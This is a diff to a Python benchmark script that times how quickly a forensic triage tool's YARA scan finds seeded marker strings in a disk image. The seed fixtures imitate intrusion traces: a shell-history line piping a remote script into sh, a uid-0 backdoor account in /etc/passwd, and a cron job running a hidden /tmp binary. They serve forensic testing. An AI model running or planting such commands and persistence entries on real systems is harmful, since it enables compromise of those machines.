@@ -1,15 +1,16 @@
 """Time to first finding: a triage profile versus no profile versus the CLI tools.
 
 The shared benchmark image (``bench/_images.py``) gets a few files seeded in the paths of the
-``linux-server`` profile (``/etc/passwd``, ``/var/log/auth.log``, ``/home/*/.bash_history``,
-``/var/log/nginx/access.log``), each holding a string that one YARA rule matches. Nothing else
+``linux-server`` profile (``/var/log/auth.log``, ``/var/log/syslog``, ``/var/log/nginx/access.log``,
+``/var/spool/cron/crontabs/root``; with ``--early`` also ``/etc/passwd`` and
+``/home/alice/.bash_history``), each holding a string that one YARA rule matches. Nothing else
 in the image matches it. In the same run, this script times:
 
 1. ``triage scan IMG --yara-rules seed.yar --profile linux-server`` (hashes, file types, YARA);
 2. the same scan without a profile (files in inventory order);
 3. ``tsk_recover -e`` followed by ``yara -r`` (the reference: no finding before extraction ends).
 
-Time to first finding is from the start of the command until a finding row can be read from
+Time to first finding is from the start of the command until a YARA finding can be read from
 the case database by another process (what the GUI sees), polled every 50 ms. Each scan is
 stopped (SIGINT: graceful, results kept) as soon as its first finding is visible.
 
@@ -35,15 +36,21 @@ from _images import benchmark_image, describe  # noqa: E402
 
 MARK = "TRIAGE-BENCH-SEED-7f3a91"
 RULE = f'rule triage_bench_seed {{ strings: $a = "{MARK}" condition: $a }}\n'
-SEEDS = {
-    "/etc/passwd": ("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
-                    f"mallory:x:0:0:{MARK}:/root:/bin/bash\n").encode(),
+LATE_SEEDS = {  # /var sorts after /usr in the image's walk order: a scan without a profile meets them last
     "/var/log/auth.log": (f"Nov 27 03:12:44 srv sshd[811]: Accepted password for mallory from 203.0.113.9 "
                           f"port 50122 ssh2 {MARK}\n").encode() * 50,
-    "/home/alice/.bash_history": f"ls -la\ncurl -s http://203.0.113.9/x.sh | sh  # {MARK}\n".encode(),
     "/var/log/nginx/access.log": (f'203.0.113.9 - - [27/Nov/2026:03:10:01 +0000] "GET /{MARK} HTTP/1.1" 404 0\n'
                                   ).encode() * 20,
+    "/var/log/syslog": f"Nov 27 03:13:02 srv CRON[902]: (root) CMD (/tmp/.x/{MARK})\n".encode() * 10,
+    "/var/spool/cron/crontabs/root": f"*/5 * * * * /tmp/.x/{MARK} >/dev/null 2>&1\n".encode(),
 }
+EARLY_SEEDS = {  # /etc and /home come before /usr: the walk order alone finds these first
+    "/etc/passwd": ("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
+                    f"mallory:x:0:0:{MARK}:/root:/bin/bash\n").encode(),
+    "/home/alice/.bash_history": f"ls -la\ncurl -s http://203.0.113.9/x.sh | sh  # {MARK}\n".encode(),
+    **LATE_SEEDS,
+}
+SEEDS = LATE_SEEDS
 TRIAGE = [sys.executable, "-m", "triage"]
 
 
@@ -53,7 +60,7 @@ def first_finding_in(db: Path) -> bool:
     try:
         con = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=0.05)
         try:
-            return con.execute("SELECT 1 FROM findings LIMIT 1").fetchone() is not None
+            return con.execute("SELECT 1 FROM findings WHERE plugin='yara' LIMIT 1").fetchone() is not None
         finally:
             con.close()
     except sqlite3.Error:
@@ -117,9 +124,13 @@ def main() -> None:
     ap.add_argument("--workers", type=int, default=os.cpu_count() or 2)
     ap.add_argument("--profile", default="linux-server")
     ap.add_argument("--no-reference", action="store_true", help="skip tsk_recover + yara")
+    ap.add_argument("--early", action="store_true",
+                    help="also seed /etc/passwd and a shell history, which the walk reaches first anyway")
     args = ap.parse_args()
 
-    image = benchmark_image(args.min_files, args.min_bytes, extra=SEEDS, variant="seeded")
+    global SEEDS
+    SEEDS = EARLY_SEEDS if args.early else LATE_SEEDS
+    image = benchmark_image(args.min_files, args.min_bytes, extra=SEEDS, variant="seeded" if args.early else "seeded-var")
     info = describe(image)
     print(f"image: {image} ({info['files']} files, {int(info['bytes']) / 1e9:.2f} GB of content); "
           f"{len(SEEDS)} seeded files in {args.profile} paths")
